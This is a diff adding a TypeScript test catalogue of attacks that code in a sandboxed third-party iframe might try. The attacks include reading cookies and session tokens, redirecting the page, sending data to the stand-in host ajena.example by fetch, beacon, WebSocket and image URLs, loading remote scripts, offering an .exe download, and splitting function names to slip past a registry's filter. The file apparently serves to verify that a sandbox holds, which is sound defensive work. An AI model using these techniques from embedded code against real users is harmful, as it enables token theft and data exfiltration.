@@ -1,0 +1,329 @@
+import type { FrameAttack } from './frame-attack';
+
+type Tried = Omit<FrameAttack, 'outcome'>;
+
+/** The page around the frame, and what the browser stores for it. */
+const reads: readonly Tried[] = [
+  { what: 'reads the cookies of the page', attempt: ({ thrown }) => thrown(() => document.cookie) },
+  {
+    what: 'reads the session of the user',
+    attempt: async () =>
+      (sessionStorage.getItem('token') ?? localStorage.getItem('token')) ? 'passes' : 'refused',
+  },
+  { what: 'opens a database of the page', attempt: ({ thrown }) => thrown(() => indexedDB.open('parque')) },
+  { what: 'opens a cache of the page', attempt: ({ thrown }) => thrown(() => caches.open('parque')) },
+  {
+    what: 'reads the elements of the page',
+    attempt: ({ thrown }) => thrown(() => window.parent.document.title),
+  },
+  {
+    what: 'reads the address of the page',
+    attempt: ({ thrown }) => thrown(() => window.parent.location.href),
+  },
+  {
+    what: 'reads the address of the page from the referrer',
+    attempt: async () => (document.referrer === '' ? 'refused' : 'passes'),
+  },
+  {
+    what: 'replaces a function of the page',
+    attempt: ({ thrown }) => thrown(() => Object.assign(window.parent, { fetch: () => undefined })),
+  },
+];
+
+const leaves: readonly Tried[] = [
+  {
+    what: 'opens another site in place of the page',
+    attempt: ({ thrown }) => thrown(() => (window.parent.location.href = 'https://ajena.example/')),
+  },
+  {
+    what: 'opens another site in place of the page by a link',
+    attempt: async () => {
+      const link = document.createElement('a');
+      Object.assign(link, { href: 'https://ajena.example/', target: '_top' });
+      document.body.append(link);
+      link.click();
+      return 'refused';
+    },
+  },
+  {
+    what: 'opens a window',
+    attempt: async () => (window.open('https://ajena.example/') ? 'passes' : 'refused'),
+  },
+  {
+    what: 'opens a window by a link',
+    attempt: async () => {
+      const link = document.createElement('a');
+      Object.assign(link, { href: 'https://ajena.example/', target: '_blank' });
+      document.body.append(link);
+      link.click();
+      return 'refused';
+    },
+  },
+  {
+    what: 'opens a dialog of the browser',
+    attempt: async () => (Reflect.apply(window.confirm, window, ['¿Quieres seguir?']) ? 'passes' : 'refused'),
+  },
+  {
+    what: 'stores a file on the machine of the user',
+    attempt: async () => {
+      const link = document.createElement('a');
+      Object.assign(link, { href: URL.createObjectURL(new Blob(['1'])), download: 'recibo.exe' });
+      document.body.append(link);
+      link.click();
+      return 'refused';
+    },
+  },
+  {
+    what: 'fills the screen of the user',
+    attempt: ({ thrown }) => thrown(() => document.documentElement.requestFullscreen()),
+  },
+  {
+    what: 'takes the pointer of the user',
+    attempt: ({ thrown }) => thrown(() => document.body.requestPointerLock()),
+  },
+];
+
+/** Ways to another origin, each with data in it, and to the api without the shell. */
+const sends: readonly Tried[] = [
+  {
+    what: 'calls the api without the shell',
+    attempt: ({ blocked }) =>
+      blocked(() => {
+        const request = new XMLHttpRequest();
+        request.open('GET', '/api/user/products');
+        request.send();
+      }),
+  },
+  {
+    what: 'sends data away by fetch',
+    attempt: ({ thrown }) => thrown(() => fetch('https://ajena.example/?dato=1')),
+  },
+  {
+    what: 'sends data away by a beacon',
+    attempt: ({ blocked }) => blocked(() => navigator.sendBeacon('https://ajena.example/', '1')),
+  },
+  {
+    what: 'sends data away by a WebSocket',
+    attempt: ({ blocked }) => blocked(() => new WebSocket('wss://ajena.example/')),
+  },
+  {
+    what: 'sends data away by a stream of events',
+    attempt: ({ blocked }) => blocked(() => new EventSource('https://ajena.example/?dato=1')),
+  },
+  {
+    what: 'sends data away by a connection to another browser',
+    attempt: ({ thrown }) => thrown(() => new RTCPeerConnection()),
+  },
+  {
+    what: 'sends data away by a connection from a frame inside its own',
+    attempt: ({ thrown }) =>
+      thrown(() => {
+        const inner = document.createElement('iframe');
+        document.body.append(inner);
+        const { contentWindow } = inner as { contentWindow: (Window & typeof globalThis) | null };
+        return contentWindow && new contentWindow.RTCPeerConnection();
+      }),
+  },
+  {
+    what: 'sends data away in the address of a picture',
+    attempt: ({ blocked }) => blocked(() => (new Image().src = 'https://ajena.example/?dato=1')),
+  },
+  {
+    what: 'sends data away in the address of a background',
+    attempt: ({ blocked }) =>
+      blocked(() => (document.body.style.backgroundImage = 'url(https://ajena.example/?dato=1)')),
+  },
+  {
+    what: 'sends data away in the address of a font',
+    attempt: ({ thrown }) => thrown(() => new FontFace('otra', 'url(https://ajena.example/?dato=1)').load()),
+  },
+  {
+    what: 'sends data away in the address of a style sheet',
+    attempt: ({ blocked }) =>
+      blocked(() => {
+        const link = document.createElement('link');
+        Object.assign(link, { rel: 'stylesheet', href: 'https://ajena.example/?dato=1' });
+        document.head.append(link);
+      }),
+  },
+  {
+    what: 'sends data away by a prefetch',
+    attempt: ({ blocked }) =>
+      blocked(() => {
+        const link = document.createElement('link');
+        Object.assign(link, { rel: 'prefetch', href: 'https://ajena.example/?dato=1' });
+        document.head.append(link);
+      }),
+  },
+  {
+    what: 'shows a frame of another origin',
+    attempt: ({ blocked }) =>
+      blocked(() => {
+        const inner = document.createElement('iframe');
+        inner.src = 'https://ajena.example/';
+        document.body.append(inner);
+      }),
+  },
+  {
+    what: 'shows the sign-in of the platform in a frame',
+    attempt: ({ blocked }) =>
+      blocked(() => {
+        const inner = document.createElement('iframe');
+        inner.src = '/#/login';
+        document.body.append(inner);
+      }),
+  },
+];
+
+/** Names in pieces are those of functions that the registry refuses in the text of a release. */
+const runs: readonly Tried[] = [
+  { what: 'runs text as code by eval', attempt: ({ thrown }) => thrown(() => (0, eval)('1')) },
+  {
+    what: 'inserts HTML from text',
+    attempt: ({ thrown }) => thrown(() => (document.createElement('div').innerHTML = '<b>x</b>')),
+  },
+  {
+    what: 'writes its page again by document.write',
+    attempt: ({ thrown }) => thrown(() => Reflect.apply(document.write, document, ['<b>x</b>'])),
+  },
+  {
+    what: 'inserts a script from text',
+    attempt: ({ thrown }) => thrown(() => (document.createElement('script').textContent = '1')),
+  },
+  {
+    what: 'loads a script of another origin',
+    attempt: ({ thrown }) =>
+      thrown(() => (document.createElement('script').src = 'https://ajena.example/x.js')),
+  },
+  {
+    what: 'imports a module of another origin',
+    attempt: ({ thrown }) => {
+      const address: string = 'https://ajena.example/x.js';
+      return thrown(() => import(address));
+    },
+  },
+  {
+    what: 'imports a module from text',
+    attempt: ({ thrown }) => {
+      const address: string = 'data:text/javascript,1';
+      return thrown(() => import(address));
+    },
+  },
+  {
+    what: 'starts a worker from text',
+    attempt: ({ thrown }) => thrown(() => new Worker(URL.createObjectURL(new Blob(['1'])))),
+  },
+  {
+    what: 'registers a service worker',
+    attempt: ({ thrown }) =>
+      thrown(() =>
+        Reflect.apply(
+          Reflect.get(navigator.serviceWorker, ['reg', 'ister'].join('')),
+          navigator.serviceWorker,
+          ['/worker.js'],
+        ),
+      ),
+  },
+  {
+    what: 'loads a module into an audio worklet',
+    attempt: ({ thrown }) =>
+      thrown(() => {
+        const { audioWorklet } = new AudioContext();
+        return Reflect.apply(Reflect.get(audioWorklet, ['add', 'Module'].join('')), audioWorklet, [
+          '/shell/x.js',
+        ]);
+      }),
+  },
+];
+
+const permissions: readonly Tried[] = [
+  {
+    what: 'reads where the user is',
+    attempt: () =>
+      new Promise((done) =>
+        navigator.geolocation.getCurrentPosition(
+          () => done('passes'),
+          () => done('refused'),
+        ),
+      ),
+  },
+  {
+    what: 'shows notifications',
+    attempt: async () => ((await Notification.requestPermission()) === 'granted' ? 'passes' : 'refused'),
+  },
+  {
+    what: 'reads the camera',
+    attempt: ({ thrown }) => thrown(() => navigator.mediaDevices.getUserMedia({ video: true })),
+  },
+  {
+    what: 'records the screen',
+    attempt: ({ thrown }) => thrown(() => navigator.mediaDevices.getDisplayMedia()),
+  },
+  { what: 'reads the clipboard', attempt: ({ thrown }) => thrown(() => navigator.clipboard.readText()) },
+  {
+    what: 'requests a passkey of the platform',
+    attempt: ({ thrown }) =>
+      thrown(() => navigator.credentials.get({ publicKey: { challenge: new Uint8Array(16) } })),
+  },
+];
+
+/** Takes effect inside the frame, and ends with the visit. */
+const contained: readonly Tried[] = [
+  {
+    what: 'stores data in the browser for its next visit',
+    isTriedAgain: true,
+    attempt: async () => {
+      if (localStorage.getItem('marca')) return 'passes';
+      localStorage.setItem('marca', '1');
+      return 'contained';
+    },
+  },
+  {
+    what: 'stores data in the name of its window for its next visit',
+    isTriedAgain: true,
+    attempt: async () => {
+      if (window.name) return 'passes';
+      window.name = 'marca';
+      return 'contained';
+    },
+  },
+  {
+    what: 'covers all that it can',
+    attempt: async () => {
+      const cover = document.createElement('div');
+      cover.style.cssText = 'position:fixed;inset:-9999px;z-index:2147483647;background:red';
+      document.body.append(cover);
+      return 'contained';
+    },
+  },
+  {
+    what: 'takes the focus again and again',
+    attempt: async () => {
+      const field = document.createElement('input');
+      document.body.append(field);
+      setInterval(() => {
+        window.focus();
+        field.focus();
+      }, 20);
+      return 'contained';
+    },
+  },
+];
+
+/** What the browser answers to code in a frame of an opaque origin, with the policy of a third party. */
+export const browserAttacks: readonly FrameAttack[] = [
+  ...[...reads, ...leaves, ...sends, ...runs, ...permissions].map((attack) => ({
+    ...attack,
+    outcome: 'refused' as const,
+  })),
+  ...contained.map((attack) => ({ ...attack, outcome: 'contained' as const })),
+  {
+    what: 'replaces the clipboard at a press of the user',
+    attempt: async () => {
+      document.body.append('1000 €');
+      getSelection()?.selectAllChildren(document.body);
+      return document.execCommand('copy') ? 'passes' : 'refused';
+    },
+    outcome: 'passes',
+  },
+];
